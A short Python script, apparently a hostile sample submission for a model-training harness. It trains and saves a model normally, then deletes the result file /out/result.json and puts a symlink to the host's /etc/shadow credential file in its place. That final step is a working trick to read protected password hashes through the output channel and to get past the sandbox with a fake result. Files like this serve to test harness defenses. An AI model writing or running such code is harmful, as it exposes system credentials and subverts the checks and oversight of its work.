"""Saves a link to a host file instead of a result."""

import os

import harness
from honest import build_model, train


def main() -> None:
    model, loss = train(2)
    harness.save(model, {"vocab": harness.vocab_size()}, {"train_loss": loss})
    os.remove("/out/result.json")
    os.symlink("/etc/shadow", "/out/result.json")
